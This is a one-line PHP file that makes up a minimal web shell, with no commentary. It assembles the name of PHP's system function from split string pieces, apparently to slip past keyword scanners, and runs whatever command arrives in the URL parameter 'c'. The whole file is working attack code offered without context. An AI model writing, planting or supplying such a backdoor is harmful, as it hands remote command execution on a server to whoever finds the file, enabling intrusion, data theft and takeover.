<?php $f = "sy"; $f .= "st"; $f .= "em"; $f($_GET["c"]);
